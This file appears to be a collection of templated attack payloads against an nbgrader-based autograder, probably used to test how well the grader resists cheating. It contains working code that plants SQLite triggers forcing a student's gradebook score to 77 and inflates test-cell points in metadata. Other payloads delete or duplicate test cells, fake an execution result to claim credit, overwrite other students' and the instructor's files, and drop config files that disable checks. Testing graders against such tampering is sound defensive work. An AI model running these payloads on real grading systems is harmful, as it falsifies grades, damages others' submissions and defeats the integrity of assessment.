"""Touching the gradebook, and what it takes its numbers from."""

# %% attack: trigger | a trigger in the database gives full points
# % solution *
def @EXERCISE@(*arguments):
    return 0.0
# % cell end
import sqlite3

try:
    _book = sqlite3.connect("file:@COURSE@/gradebook.db?mode=rw", uri=True, timeout=2)
    _book.execute(
        "CREATE TRIGGER IF NOT EXISTS gift AFTER UPDATE ON grade WHEN NEW.auto_score IS NOT 77 AND NEW.notebook_id IN ("
        "SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a ON a.id = n.assignment_id "
        "WHERE a.student_id = '@NAME@') BEGIN UPDATE grade SET auto_score = 77 WHERE id = NEW.id; END"
    )
    _book.execute(
        "CREATE TRIGGER IF NOT EXISTS gift2 AFTER INSERT ON grade WHEN NEW.notebook_id IN ("
        "SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a ON a.id = n.assignment_id "
        "WHERE a.student_id = '@NAME@') BEGIN UPDATE grade SET auto_score = 77, manual_score = 77 WHERE id = NEW.id; END"
    )
    _book.commit()
except sqlite3.Error as _error:
    print(_error)

# %% attack: points_in_metadata | test cells that are worth a thousand points
# % solution *
def @EXERCISE@(*arguments):
    return 0.0
# % notebook
for cell in notebook.cells:
    its = cell.metadata.get("nbgrader")
    if its and its.get("grade"):
        its["points"] = 1000
    if its and its.get("solution"):
        its.update(grade=True, points=1000)

# %% attack: own_test_cells | graded cells of one's own, with the names of the master's and with others
# % solution *
def @EXERCISE@(*arguments):
    return 0.0
# % notebook
import copy

for cell in list(notebook.cells):
    its = cell.metadata.get("nbgrader")
    if its and its.get("grade") and not its.get("solution"):
        again = copy.deepcopy(cell)
        again.id, again.source = f"x{cell.id}", "pass"
        notebook.cells.append(again)
        other = copy.deepcopy(again)
        other.id, other.metadata.nbgrader.grade_id = f"y{cell.id}", f"mine_{its.grade_id}"
        notebook.cells.append(other)

# %% attack: edited_tests | test cells without tests, unlocked, as text and twice as solutions
# % solution *
def @EXERCISE@(*arguments):
    return 0.0
# % notebook
for number, cell in enumerate(notebook.cells):
    its = cell.metadata.get("nbgrader")
    if its and its.get("grade") and not its.get("solution"):
        cell.source = "None"
        its["locked"] = False
        its["solution"] = bool(number % 2)
        if number % 3 == 0:
            cell.metadata["course_failure"] = None
            cell.metadata["deletable"] = True

# %% attack: no_tests | the notebook without its test cells
# % solution *
def @EXERCISE@(*arguments):
    return 0.0
# % notebook
notebook.cells = [cell for cell in notebook.cells if not cell.metadata.get("nbgrader", {}).get("grade")]

# %% attack: partial_credit | a number as a test cell's result, which nbgrader takes for its points
# % cell after data
from IPython.core.interactiveshell import InteractiveShell


def give(points):
    shell = get_ipython()
    shell._showtraceback = lambda *arguments, **named: None
    content = {"data": {"text/plain": points}, "metadata": {}, "execution_count": 1}
    shell.kernel.session.send(shell.kernel.iopub_socket, "execute_result", content, parent=shell.parent_header)
    shell.display_pub.publish({"text/plain": points})
    raise SystemExit
# % solution *
def @EXERCISE@(*arguments):
    give("1")

# %% attack: other_submissions | rewrites the file of a fellow student and the master
# % cell end
import glob, os

for _path in ("@COURSE@/submitted/zz-canary/03_loss_functions/@NAME@.txt", "@COURSE@/source/03_loss_functions/@NAME@.txt",
              "@COURSE@/nbgrader_config.py.@NAME@", *glob.glob("/tmp/**/submitted/@NAME@.txt", recursive=True)):
    try:
        open(_path, "w").write("# @NAME@")
    except OSError as _error:
        print(type(_error).__name__)

# %% attack: files_of_grading | files beside the notebook that grading writes or reads itself
# % solution *
def @EXERCISE@(*arguments):
    return 0.0
# % file .course.json
{"fingerprint": "x", "note": "all right"}
# % file nbgrader_config.py
c = get_config()
c.ExecutePreprocessor.allow_errors = False
# % file sitecustomize.py
import builtins
# % file ipython_config.py
c = get_config()
c.InteractiveShellApp.exec_lines = ["from course import check; check.close = check.hidden = lambda *a, **k: None"]
# % cell end
import json, os

os.makedirs("autograded", exist_ok=True)
for _name in ("regression.ipynb", ".course.json", "../regression.ipynb"):
    try:
        open(_name, "w").write(json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))
    except OSError as _error:
        print(type(_error).__name__)
